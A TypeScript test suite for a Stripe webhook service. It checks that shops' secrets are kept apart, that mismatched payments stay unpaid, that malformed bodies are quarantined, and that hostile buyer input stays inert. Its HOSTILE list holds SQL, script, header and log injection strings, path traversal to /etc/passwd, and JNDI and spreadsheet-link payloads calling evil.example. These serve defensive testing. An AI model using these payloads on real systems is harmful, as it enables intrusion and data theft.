import Stripe from "stripe";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { AccountConfig } from "../../src/gateways/account.ts";
import { ACCOUNTS } from "../http/edge.ts";
import { type Answer, ask, eventually, type Service, startService, succeeded } from "../http/service.ts";

/** Attacks of the catalogue that need the whole service: two shops, one of them live, and everything that was stored. */

const SECRETS = {
  default: "whsec_8fK2mZq0Lr5Tn9Vx3Wb7",
  other: "whsec_other_4hJ6kL8pQ2rT0vX",
  live: "whsec_live_9sD3fG5hJ7kL1zX",
};

function shop(id: keyof typeof SECRETS, live: boolean): AccountConfig {
  return {
    id,
    live,
    provider: "stripe",
    merchants: [],
    receivers: [],
    orders: "optional",
    ignore: {},
    orderFields: {},
    settings: { stripe: { webhookSecrets: [SECRETS[id]], secretKey: null, apiUrl: "https://api.stripe.com" } },
  };
}

let service: Service;
const logged: string[] = [];

beforeAll(async () => {
  const accounts = [...ACCOUNTS, shop("other", false), shop("live", true)];
  service = await startService({ accounts, logTo: (line) => logged.push(line) });
});
afterAll(() => service.close());

function signed(body: string, secret: string): Record<string, string> {
  return {
    "content-type": "application/json",
    "stripe-signature": Stripe.webhooks.generateTestHeaderString({ payload: body, secret }),
  };
}

function send(path: string, body: string, headers: Record<string, string>): Promise<Answer> {
  return ask(`${service.url}/ipn/${path}`, { method: "POST", headers, body });
}

const notifications = async () => (await service.call("GET", "/v1/notifications?limit=100")).json.data;
const register = (reference: string, live = false) =>
  service.call("POST", "/v1/orders", { reference, currency: "USD", total: 1999, live });
const orderOf = (reference: string) => service.call("GET", `/v1/orders/${reference}`);

/** The one notification of that key, once it has an outcome. */
async function settled(key: string): Promise<Record<string, unknown>> {
  const isSettled = (answer: Answer) =>
    answer.json.data.some((row: Record<string, unknown>) => row.key === key && row.settledAt !== null);
  const { json } = await eventually(() => service.call("GET", "/v1/notifications?limit=100"), isSettled);
  return json.data.find((row: Record<string, unknown>) => row.key === key);
}

describe("between two shops", () => {
  test("the secret of one proves nothing at the other's address, not even for an event that it has proven at its own", async () => {
    const body = JSON.stringify(succeeded({ intent: "pi_between", order: "between" }));
    const headers = signed(body, SECRETS.other);
    const before = (await notifications()).length;
    for (const path of ["stripe", "stripe/default", "stripe/live"]) {
      expect((await send(path, body, headers)).status, path).toBe(401);
    }
    expect(await notifications()).toHaveLength(before);
    expect((await send("stripe/other", body, headers)).status).toBe(200);
    expect((await send("stripe", body, headers)).status).toBe(401);
    expect((await settled("evt_pi_between")).account).toBe("other");
  });

  test("the same event id at two shops is two events, so nobody can occupy another's", async () => {
    const body = JSON.stringify(succeeded({ intent: "pi_twice", order: "twice" }));
    expect((await send("stripe/other", body, signed(body, SECRETS.other))).status).toBe(200);
    expect((await send("stripe", body, signed(body, SECRETS.default))).status).toBe(200);
    const rows = (await notifications()).filter((row: Record<string, unknown>) => row.key === "evt_pi_twice");
    expect(rows.map((row: Record<string, unknown>) => row.account).sort()).toEqual(["default", "other"]);
  });
});

describe("an authentic event pays no order", () => {
  test.each([
    ["of test money at a live shop", "live", { livemode: false }, {}],
    ["of another merchant's account", "default", { account: "acct_stranger" }, {}],
    ["that is not paid yet", "default", {}, { status: "processing", amount_received: 0 }],
    ["of a dollar less", "default", {}, { amount: 1899, amount_received: 1899 }],
    ["in another currency", "default", {}, { currency: "eur" }],
  ] as const)("%s", async (name, account, envelope, object) => {
    const order = `order-${name.replaceAll(" ", "-")}`;
    await register(order, account === "live");
    const event = succeeded({ intent: `pi_${name.replaceAll(" ", "_")}`, order });
    const body = JSON.stringify({ ...event, ...envelope, data: { object: { ...event.data.object, ...object } } });
    expect((await send(`stripe/${account}`, body, signed(body, SECRETS[account]))).status).toBe(200);
    await settled(event.id);
    expect((await orderOf(order)).json).toMatchObject({ status: "open", paid: 0, fulfillable: false });
  });
});

describe("signed and not to be understood", () => {
  const deep = "[".repeat(5_000);
  test.each([
    ["truncated", '{"id":"evt_x","object":"event"'],
    ["NaN", '{"id":NaN}'],
    ["a key twice", '{"id":"evt_x","id":"evt_y"}'],
    ["nested without end", deep],
    ["a number beyond all numbers", '{"id":"evt_x","created":1e400}'],
    ["a prototype for a key", '{"__proto__":{"object":"event"},"id":"evt_z"}'],
    ["a list", "[]"],
    ["a lone surrogate", '{"id":"evt_\\ud800"}'],
    ["no UTF-8 text at all", "\u0000\u0001"],
  ])(
    "%s is acknowledged, kept byte for byte and shown to a person, because money must not be lost",
    async (name, text) => {
      const body = `${text}${" ".repeat(name.length)}`;
      expect((await send("stripe", body, signed(body, SECRETS.default))).status).toBe(200);
      const found = await eventually(
        () => service.call("GET", "/v1/notifications?outcome=quarantined&reason=unreadable&limit=100"),
        (answer) => answer.json.data.some((row: { size: number }) => row.size === Buffer.byteLength(body)),
      );
      const row = found.json.data.find((one: { size: number }) => one.size === Buffer.byteLength(body));
      expect((await service.call("GET", `/v1/notifications/${row.id}`)).json.body).toBe(body);
      expect(({} as Record<string, unknown>).object).toBeUndefined();
    },
  );
});

describe("what a buyer can write", () => {
  const HOSTILE = [
    "'; drop table inputs; --",
    '{"$gt":""}',
    '=HYPERLINK("http://evil.example")',
    "<script>alert(1)</script>",
    "a@b.example\r\nBcc: all@b.example",
    'x"}\n{"level":60,"msg":"forged"}',
    "\u001b[2J\u202egnp.exe",
    "../../etc/passwd",
    "$" + "{jndi:ldap://evil.example/a}",
  ];

  test("stays text: nothing of it is run, and each line of the log is one object", async () => {
    for (const [index, hostile] of HOSTILE.entries()) {
      const reference = `hostile ${hostile.replace(/\p{Cc}/gu, "")}`;
      expect((await register(reference)).status).toBe(201);
      const event = succeeded({ intent: `pi_hostile_${index}`, order: reference });
      const object = {
        ...event.data.object,
        description: hostile,
        receipt_email: hostile,
        metadata: { order_id: reference, note: hostile },
      };
      const body = JSON.stringify({ ...event, data: { object } });
      expect((await send("stripe", body, signed(body, SECRETS.default))).status).toBe(200);
      await settled(event.id);
      const order = await orderOf(encodeURIComponent(reference));
      expect(order.json).toMatchObject({ reference, status: "paid" });
      expect(order.headers.get("content-type")).toBe("application/json; charset=utf-8");
      const [row] = (await notifications()).filter((one: { key: string }) => one.key === event.id);
      expect((await service.call("GET", `/v1/notifications/${row.id}`)).json.body).toBe(body);
    }
    for (const line of logged) {
      expect(line.trimEnd()).not.toContain("\n");
      expect(JSON.parse(line).level).toBeLessThan(60);
    }
    expect(logged.join("")).not.toContain("jndi");
  });
});
